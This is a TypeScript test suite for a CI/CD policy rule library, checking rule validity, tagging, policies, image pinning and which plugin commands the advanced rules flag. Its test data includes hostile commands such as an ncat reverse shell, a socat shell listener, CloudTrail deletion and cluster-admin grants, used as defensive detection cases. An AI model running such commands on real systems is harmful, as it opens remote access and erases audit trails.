import { readFileSync } from 'node:fs'
import { fileURLToPath } from 'node:url'
import {
  type Attributes,
  compileRules,
  evaluateRules,
  type Finding,
  lintRules,
  parseFieldPath,
  projectEntity,
  projection,
  type Rule,
  type Target,
  validateRule,
} from '@plumbline/engine'
import { describe, expect, test } from 'vitest'
import { catalogue } from '../scripts/catalogue.js'
import { frameworks } from '../src/frameworks.js'
import { type LibraryName, type LibraryRule, libraries, libraryPolicies, libraryRules } from '../src/index.js'
import { modelEntities } from './model-entities.js'

const names = Object.keys(libraries) as LibraryName[]
const rulesOf = (entries: readonly LibraryRule[]): Rule[] => entries.map(({ rule }) => rule)

/** The advanced library is sold with the standard one and stands on it. */
const inForce: { readonly [name in LibraryName]: readonly Rule[] } = {
  starter: rulesOf(libraries.starter),
  standard: rulesOf(libraries.standard),
  advanced: rulesOf([...libraries.standard, ...libraries.advanced]),
}
const compiled = new Map(names.map((name) => [name, compileRules(inForce[name])]))

const violated = (library: LibraryName, target: Target, entity: Attributes): string[] =>
  (compiled.get(library)?.evaluate(projectEntity(target, entity), { target }).violations ?? []).map(
    ({ ruleName }) => ruleName,
  )

/** A rule that blocks where another one warns, for fewer entities, says so. */
const isEscalation = ({ code, rules: [rule, other] }: Finding): boolean =>
  code === 'subsumed' && libraryRules.some((entry) => entry.rule.name === rule?.name && entry.escalates === other?.name)

/** What is said of a model entity replaces what was said; maps are joined. */
const withChanges = (entity: unknown, changes: unknown): unknown => {
  if (!isMap(entity) || !isMap(changes)) return changes
  const joined = Object.entries(changes).map(([key, value]) => [key, withChanges(entity[key], value)])
  return { ...entity, ...Object.fromEntries(joined) }
}
const isMap = (value: unknown): value is Record<string, unknown> =>
  typeof value === 'object' && value !== null && !Array.isArray(value)
const modelWith = (target: Target, changes: Attributes) => withChanges(modelEntities[target], changes) as Attributes

/** The fields of the rule; without a gate, which alone would be closed. */
const checks = (rule: Rule) => (rule.conditions ?? [rule]).filter((condition) => 'field' in condition)

describe.each(names)('the %s library', (name) => {
  test('has rules that an author could save', () => {
    for (const { rule } of libraries[name]) expect(validateRule(rule), rule.name).toEqual([])
  })

  test('reads only what the platform sends', () => {
    for (const { rule } of libraries[name]) {
      // No aliases: anyone who asks for a dry run sends attributes that nobody has projected.
      const known = projection.keys[rule.target]
      for (const { field } of checks(rule)) {
        const path = parseFieldPath(String(field))
        expect(path.ok, `${rule.name}: ${field}`).toBe(true)
        expect(known, `${rule.name}: ${field}`).toContain(/^(?:\$[a-z]+\()*([A-Za-z]+)/.exec(String(field))?.[1])
      }
    }
  })

  test('names in its text each label, metadata key and link that a rule reads', () => {
    for (const { rule } of libraries[name]) {
      for (const { field, value } of checks(rule)) {
        const claim = /^(?:labels|metadata)(?:\.(.+)|\["(.+)"\])$/.exec(String(field))
        if (claim !== null) expect(rule.description, rule.name).toContain(claim[1] ?? claim[2])
        const title = /^links\[/.test(String(field)) ? /^\^\[.(.)\](.+)$/.exec(String(value)) : null
        if (title !== null) expect(rule.description.toLowerCase(), rule.name).toContain(`"${title[1]}${title[2]}`)
      }
    }
  })

  test('has nothing in it that the static analysis would report', () => {
    const findings = lintRules(inForce[name]).filter((finding) => finding.status === 'proved' && !isEscalation(finding))
    expect(findings.map(({ code, message }) => `${code}: ${message}`)).toEqual([])
  })

  test('asks for nothing that the model entities lack', () => {
    for (const target of ['plugin', 'pipeline'] as const) {
      expect(violated(name, target, modelEntities[target]), target).toEqual([])
    }
  })

  test.each(libraries[name].map((entry) => [entry.rule.name, entry] as const))(
    '%s',
    (_, { rule, escalates, passes, fails }) => {
      const { target } = rule
      const alone = { ...rule, conditions: rule.conditions?.filter((condition) => 'field' in condition) ?? null }
      const outcome = (entity: Attributes) => evaluateRules([alone], projectEntity(target, entity)).passed
      expect(outcome(passes), 'its passing entity').toBe(true)
      expect(outcome(fails), 'its failing entity').toBe(false)
      // In its library: a change of a model entity that nobody minds, and one that this rule alone minds.
      expect(violated(name, target, modelWith(target, passes))).toEqual([])
      expect(violated(name, target, modelWith(target, fails))).toEqual([
        rule.name,
        ...(escalates === null ? [] : [escalates]),
      ])
    },
  )
})

test('nobody is taken for what they only resemble', () => {
  const commands = [
    'set -e\necho "$SUM  tool.tgz" > tool.sha256\nsha256sum -c tool.sha256',
    'rsync -e ssh --delete dist/ host.example.com:/srv/shop',
    'npx lerna publish --no-verify-access --yes',
    'cf push -f manifest.yml',
    'declare -x PATH="$PATH:/opt/bin"',
    'printenv NODE_ENV',
    'echo "$TOKEN" | docker login --password-stdin registry.example.com',
    'curl --keepalive-time 5 -fsS https://shop.example.com/health',
    'git push --tags',
    'kubectl set image deployment/shop shop=registry.example.com/shop:1.4.2',
    'npx concat -o dist/all.js src/*.js && ffmpeg -f concat -i parts.txt -c copy all.mp4',
    'npx delete-trailing-spaces src && npm run stop-logging-agent',
  ]
  const more = [
    'ansible-lint roles/owners/tasks/main.yml',
    'kubectl get clusterrole cluster-admin -o yaml > docs/cluster-administration.md',
    'cp public-readme.md dist/README.md',
    'systemctl status docker.socket',
    './maxtrace --summary',
    'ncat -z db.internal 5432',
  ]
  const dockerfile = [
    `FROM registry.example.com/base/node:latest@sha256:${'4e'.repeat(32)}`,
    'ARG NPM_TOKEN_FILE',
    'ENV GITHUB_TOKEN_FILE=/run/secrets/github',
    'RUN curl -fsSLo t.tgz https://tools.example.com/t.tgz && echo "4e4e  t.tgz" | sha256sum -c -',
    'RUN apt-get update && apt-get install -y openssh-client && chmod 755 /opt',
    'USER node',
  ]
  const installCommands = ['curl -fsSLo t.tgz sftp://tools.example.com/t.tgz']
  const changes = { dockerfile: dockerfile.join('\n'), env: { TOKEN_FILE: 'token' }, installCommands }
  for (const list of [commands, more]) {
    const entity = modelWith('plugin', { ...changes, commands: list })
    for (const name of names) expect(violated(name, 'plugin', entity), name).toEqual([])
  }
})

test.each([
  ['advanced-plugin-no-network-shell', 'sleep 5; ncat host.example.com 4444 -e /bin/sh'],
  ['advanced-plugin-no-network-shell', 'socat TCP-LISTEN:4444,fork EXEC:/bin/sh'],
  ['advanced-plugin-no-network-listener', 'set -e\nncat --listen 4444'],
  ['advanced-plugin-keeps-audit-trail', 'aws cloudtrail --region eu-central-1 delete-trail --name main'],
  ['advanced-plugin-no-public-objects', 'gsutil cp -a public-read dist/* gs://shop'],
  ['advanced-plugin-no-administrator-grants', 'gcloud projects add-iam-policy-binding shop --role=roles/owner'],
  ['advanced-plugin-no-cluster-administrators', 'kubectl create clusterrolebinding a --clusterrole cluster-admin'],
  ['advanced-plugin-no-privileged-containers', 'docker run -v /var/run/docker.sock:/var/run/docker.sock tool:1'],
  ['advanced-plugin-no-shell-trace', 'set -o xtrace'],
])('%s finds %j', (rule, command) => {
  expect(violated('advanced', 'plugin', modelWith('plugin', { commands: [command] }))).toContain(rule)
})

test('the name of a stage counts by its words and not by their letters', () => {
  const needs = (...stageNames: string[]) =>
    violated(
      'advanced',
      'pipeline',
      modelWith('pipeline', { props: { stages: stageNames.map((stageName) => ({ stageName })) } }),
    )
  const all = [
    'standard-pipeline-checks-something',
    'advanced-pipeline-critical-security-stage',
    'advanced-pipeline-critical-test-stage',
    'advanced-pipeline-critical-approval',
  ]
  expect(needs('PublishLatest', 'InvalidateCache', 'Checkout', 'DISASTER', 'ApiGateway', 'Navigate')).toEqual(
    expect.arrayContaining(all),
  )
  const rest = (...stageNames: string[]) => needs(...stageNames).filter((rule) => all.includes(rule))
  expect(rest('UnitTest', 'SAST', 'QualityGate')).toEqual([])
  expect(rest('unittest', 'container-scan', 'gate')).toEqual([])
  expect(rest('LATEST_TEST', 'Validate', 'PRE_DAST', 'SignOff')).toEqual([])
})

describe.each(['starter-plugin-fixed-image-tag', 'standard-plugin-image-fixed'])('%s', (name) => {
  const digest = `@sha256:${'4e'.repeat(32)}`
  const found = (baseImage: string | null) =>
    violated(
      name.startsWith('starter') ? 'starter' : 'standard',
      'plugin',
      modelWith('plugin', { baseImage, criticality: 'low' }),
    )

  test.each([
    'node:22.11.0',
    'host:5000/base/node:22',
    'node:lts',
    'python:lambda',
    'team/latest:1.0',
    `node${digest}`,
    `node:latest${digest}`,
    `host:5000/node${digest}`,
    'scratch',
    null,
  ])('accepts %s', (image) => {
    expect(found(image)).toEqual([])
  })

  test.each([
    'node',
    'team/node',
    'host:5000/base/node',
    'node:latest',
    'host:5000/node:latest',
    'node:latest-slim',
    'latest',
    '',
  ])('refuses %j', (image) => {
    expect(found(image)).toEqual([name])
  })
})

test('a Dockerfile may name `latest` only with a digest at each place', () => {
  const digest = `@sha256:${'4e'.repeat(32)}`
  const found = (...images: string[]) =>
    violated(
      'advanced',
      'plugin',
      modelWith('plugin', { dockerfile: `${images.map((each) => `FROM ${each}\n`).join('')}USER node\n` }),
    )
  expect(found(`host:5000/node:latest${digest}`, `debian:latest${digest} AS tools`, 'alpine:3.21')).toEqual([])
  for (const image of ['debian:latest', 'debian:latest AS tools', 'debian:latest-slim', 'host:5000/debian:latest']) {
    expect(found(`node:latest${digest}`, image), image).toEqual(['advanced-dockerfile-no-latest'])
    expect(found(image, 'node:22'), image).toEqual(['advanced-dockerfile-no-latest'])
  }
})

test('a script of several lines stops at errors however that is written', () => {
  const found = (first: string) =>
    violated('standard', 'plugin', modelWith('plugin', { commands: [`${first}\n./build.sh`] }))
  for (const first of ['set -e', 'set -euo pipefail', 'set -ue', 'set -u -o errexit'])
    expect(found(first), first).toEqual([])
  for (const first of ['./reset -e', 'charset -e', 'set -u']) {
    expect(found(first), first).toEqual(['standard-plugin-commands-stop-at-errors'])
  }
})

test('rules and policies have names of their own', () => {
  const all = libraryRules.map(({ rule }) => rule.name)
  expect(new Set(all).size).toBe(all.length)
  expect(new Set(libraryPolicies.map(({ name }) => name)).size).toBe(libraryPolicies.length)
})

test('a gate names a rule of the same library that comes earlier', () => {
  for (const name of names) {
    const earlier: string[] = []
    for (const { rule } of libraries[name]) {
      for (const { dependsOnRule } of rule.conditions ?? []) {
        if (dependsOnRule !== undefined) expect(earlier, rule.name).toContain(dependsOnRule)
      }
      earlier.push(rule.name)
    }
  }
})

test('the libraries are as large as they are sold', () => {
  expect(names.map((name) => libraries[name].length)).toEqual([10, 23, 83])
})

describe('tags', () => {
  test('say the set; the starter rules have none', () => {
    for (const { rule, library } of libraryRules) {
      const sets = rule.tags.filter((tag) => tag.startsWith('set:'))
      expect(sets, rule.name).toEqual(library === 'starter' ? [] : [`set:${library}`])
    }
  })

  test('say framework and control exactly as the text gives reasons', () => {
    for (const { rule, controls, library } of libraryRules) {
      expect(controls.length > 0, rule.name).toBe(library === 'advanced')
      expect(rule.tags.filter((tag) => tag.startsWith('control:'))).toEqual(controls.map(({ id }) => `control:${id}`))
      expect(rule.tags.filter((tag) => tag.startsWith('framework:'))).toEqual(
        controls.map(({ framework }) => `framework:${framework}`),
      )
      for (const { framework, id, why } of controls) {
        expect(rule.description).toContain(`${frameworks[framework].title} ${id}: ${why}`)
      }
      expect(new Set(rule.tags).size, rule.name).toBe(rule.tags.length)
    }
  })

  test('have control ids in the form of their framework and of no other', () => {
    for (const [own, { controls }] of Object.entries(frameworks)) {
      for (const id of Object.keys(controls)) {
        const forms = Object.entries(frameworks).filter(([, { controlId }]) => controlId.test(id))
        expect(
          forms.map(([name]) => name),
          id,
        ).toEqual([own])
      }
    }
  })

  test('cite every control that the tables name', () => {
    for (const [name, { controls }] of Object.entries(frameworks)) {
      const cited = new Set(
        libraryRules.flatMap((entry) =>
          entry.controls.filter(({ framework }) => framework === name).map(({ id }) => id),
        ),
      )
      expect([...cited].sort()).toEqual(Object.keys(controls).sort())
    }
  })

  test('never give one reason twice', () => {
    const reasons = libraryRules.flatMap(({ controls }) => controls.map(({ why }) => why))
    const twice = reasons.filter((why, index) => reasons.indexOf(why) !== index)
    expect(twice).toEqual([])
  })
})

describe('policies', () => {
  test('name rules of their own library, each once', () => {
    for (const policy of libraryPolicies) {
      const known = libraries[policy.library].map(({ rule }) => rule.name)
      for (const rule of policy.rules) expect(known, policy.name).toContain(rule)
      expect(new Set(policy.rules).size, policy.name).toBe(policy.rules.length)
    }
  })

  test('leave no rule out', () => {
    const grouped = new Set(libraryPolicies.flatMap(({ rules }) => rules))
    expect(libraryRules.map(({ rule }) => rule.name).filter((name) => !grouped.has(name))).toEqual([])
  })

  test('can be copied with their rules only where nobody pays for them', () => {
    for (const { library, isTemplate } of libraryPolicies) expect(isTemplate).toBe(library === 'starter')
    expect(libraryPolicies.filter(({ isTemplate }) => isTemplate).map(({ name }) => name)).toEqual([
      'security-baseline',
      'production-readiness',
      'quality-standards',
      'naming-conventions',
      'cost-optimization',
    ])
  })
})

test('the page of the documentation has every rule as it is', () => {
  const page = fileURLToPath(new URL('../../../docs/reference/rule-catalogue.md', import.meta.url))
  expect(readFileSync(page, 'utf8'), 'npm run generate').toBe(catalogue())
})
